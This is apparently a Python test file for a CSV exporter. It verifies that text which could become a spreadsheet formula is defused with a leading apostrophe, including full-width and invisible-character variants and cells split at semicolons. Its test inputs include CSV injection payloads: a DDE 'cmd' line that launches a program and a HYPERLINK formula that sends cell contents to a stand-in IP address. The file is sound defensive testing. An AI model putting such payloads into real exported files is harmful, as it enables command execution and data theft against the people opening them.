"""Can no article make a spreadsheet run something, and do numbers stay numbers?"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from summaries import summary

from summarizer.export._columns import NAMES
from summarizer.export._csv import cell, write
from summarizer.export._rows import rows_of

SIGNS = "=+-@＝＋－＠\t\r"


@pytest.mark.parametrize(
    "text",
    [
        *["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x", "−1"],
        *[" =1", "\u00a0=1", "\u200b=1", "\ufeff=1", '"=1"', "'=1", "“=1”", "\u202e=1", "\x00=1", "\x0b=1"],
        *["=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1?x="&A1)', "=1+1\nmore", "-2 degrees"],
    ],
)
def test_text_that_would_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    """OWASP's list, the full-width forms, and what spreadsheets skip before a sign."""
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["Toll pledged 5-7 trucks = many", "a@b.example", "", "“Toll” said", "1 + 1", "\u200b"]
)
def test_other_text_is_left(text: str) -> None:
    """Signs inside it do nothing."""
    assert cell(text) == text


def test_sign_after_a_semicolon_a_tab_or_a_line_end_is_defused_too() -> None:
    """Where the list separator of the country is a semicolon, the line is parted there, quotes or not."""
    assert cell("Toll;=1+1;fine; @x\t+2") == "Toll;'=1+1;fine;' @x\t'+2"
    assert cell("Toll\r\n=1+1\n- fine") == "Toll\r\n'=1+1\n'- fine"
    assert cell("\n=1") == "'\n'=1"


def test_numbers_are_numbers_and_lists_are_joined() -> None:
    """Also below zero; yes and no as words; nothing is an empty cell."""
    assert [cell(v) for v in (-5, -0.5, True, None, [], ["a", None, "b"])] == [-5, -0.5, "true", "", "", "a |  | b"]
    assert cell(["=1", "b"]) == "'=1 | b"


@given(st.text() | st.lists(st.none() | st.text()), st.sampled_from(SIGNS))
@example(";", "=")
def test_no_cell_begins_with_a_sign(text: Any, sign: str) -> None:
    """Whatever stands there, with white space and quotation marks taken away."""
    for value in (text, f"{sign}{text}", [sign, *text]):
        shown = str(cell(value))
        for part in shown.replace("\t", ";").split(";"):
            assert part.strip(' "').lstrip("\u200b\ufeff\xa0")[:1] not in set("=+-@＝＋－＠")


def test_file_is_read_by_any_reader_of_csv() -> None:
    """Names first, each cell as it was given, line ends inside quotes."""
    rows = list(rows_of(summary()))
    file = io.StringIO()
    assert write(rows, file) == len(rows)
    back = list(csv.DictReader(io.StringIO(file.getvalue(), newline="")))
    assert tuple(back[0]) == NAMES
    assert [row["quote"] for row in back] == [row["quote"] for row in rows]
    pledge = next(row for row in back if row["type"] == "pledge")
    assert (pledge["amount_value"], pledge["quote_start"].isdigit(), pledge["cameo"]) == ("40000000.0", True, "0331")
    assert file.getvalue().count("\r\n") == len(rows) + 1


@given(st.lists(st.sampled_from([*"=+-@＝;\t\r\n \"'a,", "\r\n"]), max_size=12).map("".join))
@example("a\n=1")
@example('a\r\n"=1')
def test_no_cell_is_a_formula_where_the_list_separator_is_another(text: str) -> None:
    """The line is parted at semicolons or tabs; its quotes hold no line end in then, and what follows begins a row."""
    file = io.StringIO()
    csv.writer(file, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC).writerow(["x", cell(text), "y"])
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator):
            assert all(part.lstrip(' "')[:1] not in set("=+-@＝") or not part for part in row)
